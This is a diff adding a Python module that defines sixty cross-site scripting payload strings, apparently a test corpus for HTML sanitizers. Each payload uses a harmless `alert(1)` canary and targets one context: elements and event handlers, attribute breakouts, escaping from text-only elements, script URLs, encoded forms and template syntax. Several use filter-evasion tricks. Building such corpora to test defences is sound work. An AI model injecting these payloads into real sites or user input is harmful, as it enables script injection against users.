@@ -1,0 +1,75 @@
+"""Sixty texts that become a program wherever a page takes them for markup.
+
+Each tries to call `alert`, the canary, in one context: as an element, out of an attribute's value,
+out of `<textarea>`, `<title>` or a comment, as an address, through a parser's repair or a
+template's own syntax.
+"""
+
+_CALL = "alert(1)"
+
+TEXTS = [
+    # an element
+    f"<script>{_CALL}</script>",
+    f"<ScRiPt>{_CALL}</sCrIpT>",
+    f"<script >{_CALL}</script >",
+    f"<script/x>{_CALL}</script>",
+    f"<<script>{_CALL}//<</script>",
+    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
+    f"<script\n>{_CALL}</script\n>",
+    f"<script src='data:text/javascript,{_CALL}'></script>",
+    f"<script src=//127.0.0.1:9/x.js>{_CALL}",
+    f"<img src=x onerror={_CALL}>",
+    f"<IMG SRC=x ONERROR={_CALL}>",
+    f"<img/src=x/onerror={_CALL}>",
+    f"<img src=x onerror='{_CALL}'",
+    f"<img src onerror = {_CALL} ",
+    f"<svg onload={_CALL}>",
+    f"<svg/onload={_CALL}>",
+    f"<svg><script>{_CALL}</script></svg>",
+    "<svg><script>&#97;lert(1)</script></svg>",
+    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
+    f"<body onload={_CALL}>",
+    f"<iframe src='javascript:{_CALL}'></iframe>",
+    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
+    f"<iframe onload={_CALL}></iframe>",
+    f"<object data='javascript:{_CALL}'></object>",
+    f"<embed src='javascript:{_CALL}'>",
+    f"<video><source onerror={_CALL}></video>",
+    f"<audio src=x onerror={_CALL}>",
+    f"<details open ontoggle={_CALL}><summary>x</summary></details>",
+    f"<input autofocus onfocus={_CALL}>",
+    f"<select autofocus onfocus={_CALL}></select>",
+    f"<textarea autofocus onfocus={_CALL}></textarea>",
+    f"<marquee onstart={_CALL}>x</marquee>",
+    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={_CALL}>x</b>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
+    f"<base href='javascript:/{_CALL}/'>",
+    f"<link rel=stylesheet href=x onerror={_CALL}>",
+    f"<a href='javascript:{_CALL}' autofocus onfocus={_CALL}>x</a>",
+    f"<form action='javascript:{_CALL}'><button autofocus onfocus={_CALL}>x</button></form>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
+    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'></noscript>",
+    f"<template><script>{_CALL}</script></template><img src=x onerror={_CALL}>",
+    # out of an attribute's value
+    f'"><script>{_CALL}</script>',
+    f"'><script>{_CALL}</script>",
+    f'" autofocus onfocus={_CALL} x="',
+    f"' autofocus onfocus={_CALL} x='",
+    f'" onmouseover={_CALL} style="position:fixed;inset:0',
+    f"` onerror={_CALL} `",
+    f"&quot;><img src=x onerror={_CALL}>",
+    # out of an element whose content is text
+    f"</textarea><script>{_CALL}</script>",
+    f"</title><script>{_CALL}</script>",
+    f"</style><script>{_CALL}</script>",
+    f"--><script>{_CALL}</script><!--",
+    f"]]><script>{_CALL}</script>",
+    # as an address, through a decoder, or a template
+    f"javascript:{_CALL}",
+    f"data:text/html,<script>{_CALL}</script>",
+    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
+    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
+    f"%3Cscript%3E{_CALL}%3C/script%3E",
+    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
+    f"{{{{!'<script>{_CALL}</script>'}}}} % end <% {_CALL} %>",
+]
